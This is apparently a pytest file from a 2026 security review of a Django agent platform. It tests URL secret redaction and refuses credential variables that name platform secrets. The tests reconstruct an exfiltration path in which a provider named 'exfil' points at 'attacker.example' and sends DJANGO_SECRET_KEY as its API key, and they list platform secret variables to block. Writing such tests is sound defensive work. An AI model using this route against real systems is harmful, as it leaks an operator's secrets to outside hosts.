"""Review of 2026-12-05 (de): how credentials and URLs with secrets travel (url_redacted, credential_env).

Each test fails on the reviewed code (main at a677711) and states what was found ("Found: ...") and what is
expected ("Expect: ...").

Findings:

1. ``url_redacted`` / ``url_secret_parts`` missed a key in a path segment's matrix parameter
   (``/mcp;token=<key>``): it reached the governance trail whole, and the scrubber of remote MCP errors and logs
   did not know it. Percent-encoded user info (``p%40ss``) and a key in the fragment were not among the parts the
   scrubber replaces (a library may quote the decoded form; the log keeps the URL). Now matrix values (but a
   setting's), the fragment and each part's decoded form are secret parts, and matrix values are redacted.
2. ``credential_env`` could name any variable of the web and worker processes: whoever may edit a model provider
   or a remote MCP credential (superusers and holders of ``toolhub.cross_tenant``, not people who read the
   platform's environment) could name ``DJANGO_SECRET_KEY``, ``DATABASE_URL`` or the checkpoint key
   ``TOOLHUB_AUDIT_KEY`` with a base URL of their own, and the workers sent that value as the API key / bearer
   token. Now ``toolhub.credential_env`` refuses the platform's own variables where they are typed (a field
   validator) and again where the value is read (``credential_from_env``, for rows saved before), and
   ``TOOLHUB["CREDENTIAL_ENV_PREFIXES"]`` narrows names to the platform's convention.

Checked and found holding (no test here): tenant staff cannot add a remote MCP credential nor change its server,
tenant or variable (read-only), and see no provider or server page (``CrossTenantOnly``); the REST API refuses
``base_url``/``credential_env``/``api_key_env`` in an agent's model (400); a provider's base URL with user info, a
query or a fragment is refused (review o); remote MCP errors name the server, never its URL, and are scrubbed of
the credential before they reach the call, the model, ``last_error`` or the log (``RemoteServerError``,
``credential_scrubber``); the openai adapter's errors name only the exception's class and HTTP status; an adapter
bug is stored on the run by its type only; Celery tasks take ids only (no URL or key in a task's arguments);
uppercase schemes, IPv6 hosts and non-http schemes are redacted like any (``urlsplit``).
Not changed: a key-like path segment is recognised by a digit among 16+ token characters; a letter-only key in
a path (``/sk-abcdefghijklmnopqrst``) or a short one (``/k/abcd1234``) stays readable in the trail (a heuristic
that must keep path words readable; a provider's base URL should carry no key at all).
"""

import json
from typing import Any

import pytest
from django.contrib.auth.models import User

from agents_app.models import Agent, ModelProvider
from agents_app.models_adapters.base import adapter_for
from tests.helpers import console
from tests.security_review.conftest import provider_form, server_form
from toolhub.exceptions import ModelError, ToolError
from toolhub.models import AuditEvent
from toolhub.url_secrets import url_redacted, url_secret_parts

pytestmark = pytest.mark.django_db

KEY = "sk_live_4eC39HqLyjWDarjtT1zdp7dc"
PLATFORM_SECRET = "the-platform-secret-key-never-sent"


def test_a_key_in_a_matrix_parameter_is_redacted_and_scrubbed() -> None:
    """Found: ``https://mcp.example/mcp;token=<key>`` was recorded and logged whole, its key not a secret part.
    Expect: the value redacted (a setting's kept), and the key among the parts the scrubber replaces."""
    url = f"https://mcp.example/mcp;v=2;token={KEY}/tools"

    assert url_redacted(url) == "https://mcp.example/mcp;v=2;token=[redacted]/tools"
    assert KEY in url_secret_parts(url)
    assert "2" not in url_secret_parts(url)


def test_decoded_user_info_and_a_fragment_are_secret_parts() -> None:
    """Found: ``url_secret_parts`` gave ``p%40ss`` (not the ``p@ss`` a library sends and may quote) and no fragment
    (the log keeps the URL with its secret parts replaced, so a key after ``#`` stayed). Expect: both forms and
    the fragment."""
    parts = url_secret_parts(f"https://user:p%40ss@mcp.example/mcp#key={KEY}")

    assert {"p%40ss", "p@ss", f"key={KEY}"} <= set(parts)


def test_a_server_url_with_a_matrix_key_never_reaches_the_trail(superuser: User) -> None:
    """Found: a remote MCP server added with ``;token=<key>`` in its URL wrote the key into ``governance.added``.
    Expect: the URL recorded with ``token=[redacted]``, the key in no event."""
    added = console(superuser).post(
        "/admin/toolhub/remotemcpserver/add/", server_form(url=f"https://mcp.crm.example/mcp;token={KEY}")
    )

    assert added.status_code == 302, added.content[:3000]
    for event in AuditEvent.objects.all():
        assert KEY not in json.dumps(event.payload)


@pytest.mark.parametrize("name", ["DJANGO_SECRET_KEY", "DATABASE_URL", "TOOLHUB_AUDIT_KEY", "CELERY_BROKER_URL"])
def test_a_provider_cannot_name_a_platform_variable(superuser: User, name: str) -> None:
    """Found: a provider's ``credential_env`` could be ``DJANGO_SECRET_KEY`` (or the database URL, the checkpoint
    key) with a base URL of one's own: the worker sent the platform's secret as the API key. Expect: refused on
    the provider's page, nothing saved."""
    page = console(superuser).post(
        "/admin/agents_app/modelprovider/add/",
        provider_form(base_url="https://attacker.example/v1", credential_env=name),
    )

    assert page.status_code == 200
    assert "one of the platform&#x27;s own" in page.content.decode()
    assert not ModelProvider.objects.filter(name="acme-llm").exists()


def test_a_remote_credential_cannot_name_a_platform_variable(superuser: User) -> None:
    """Found: a remote MCP credential could name ``DJANGO_SECRET_KEY``, sent as the bearer token to the server.
    Expect: refused on the credential's page."""
    from toolhub.mcp_client.models import RemoteMcpCredential, RemoteMcpServer

    server = RemoteMcpServer.objects.create(name="crm", url="https://attacker.example/mcp")
    page = console(superuser).post(
        "/admin/toolhub/remotemcpcredential/add/",
        {
            "server": server.pk,
            "tenant": "acme",
            "credential_env": "DJANGO_SECRET_KEY",
            "header": "Authorization",
            "scheme": "Bearer",
        },
    )

    assert page.status_code == 200
    assert "one of the platform&#x27;s own" in page.content.decode()
    assert not RemoteMcpCredential.objects.exists()


def test_a_platform_variable_saved_before_is_never_read(monkeypatch: pytest.MonkeyPatch) -> None:
    """Found: rows saved before the rule (or by code) still read ``DJANGO_SECRET_KEY`` and sent it. Expect: the
    provider 'not configured', the remote credential refused, the secret in neither the adapter nor the headers."""
    from toolhub.mcp_client.models import RemoteMcpCredential, RemoteMcpServer
    from toolhub.mcp_client.services import credential_headers

    monkeypatch.setenv("DJANGO_SECRET_KEY", PLATFORM_SECRET)
    provider = ModelProvider.objects.create(
        name="exfil",
        kind="openai",
        base_url="https://attacker.example/v1",
        model_name="m",
        credential_env="DJANGO_SECRET_KEY",
    )
    agent = Agent.objects.create(name="exfil-agent", provider=provider)
    server = RemoteMcpServer.objects.create(name="crm", url="https://attacker.example/mcp")
    RemoteMcpCredential.objects.create(server=server, tenant="acme", credential_env="DJANGO_SECRET_KEY")

    with pytest.raises(ModelError, match="not configured"):
        adapter_for(agent)
    with pytest.raises(ToolError, match="unset or refused") as refused:
        credential_headers(server, "acme")
    assert PLATFORM_SECRET not in str(refused.value)


def test_the_platform_narrows_credential_names_to_its_prefixes(settings: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """Found: no setting limited which variables a credential may name (another tenant's, any process secret).
    Expect: with ``CREDENTIAL_ENV_PREFIXES=["CRED_"]``, names outside the prefixes refused, names inside read."""
    from toolhub.credential_env import credential_env_problem, credential_from_env

    settings.TOOLHUB = {**getattr(settings, "TOOLHUB", {}), "CREDENTIAL_ENV_PREFIXES": ["CRED_"]}
    monkeypatch.setenv("CRED_ACME_LLM", "k1")
    monkeypatch.setenv("ACME_LLM_KEY", "k2")

    assert credential_env_problem("ACME_LLM_KEY")
    assert credential_from_env("ACME_LLM_KEY") == ""
    assert credential_from_env("CRED_ACME_LLM") == "k1"


def test_a_secret_the_platform_names_elsewhere_is_refused(settings: Any) -> None:
    """Found: the checkpoint key's variable may be renamed (``AUDIT_KEY_ENV``), and a credential could then name it.
    Expect: the variables ``AUDIT_KEY_ENV``, ``DB_APP_PASSWORD_ENV`` and ``WEBHOOK_SECRET_ENV`` name are refused."""
    from toolhub.credential_env import credential_env_problem

    settings.TOOLHUB = {**getattr(settings, "TOOLHUB", {}), "AUDIT_KEY_ENV": "CHECKPOINT_SECRET"}

    assert credential_env_problem("CHECKPOINT_SECRET")
    assert credential_env_problem("ACME_LLM_KEY") is None
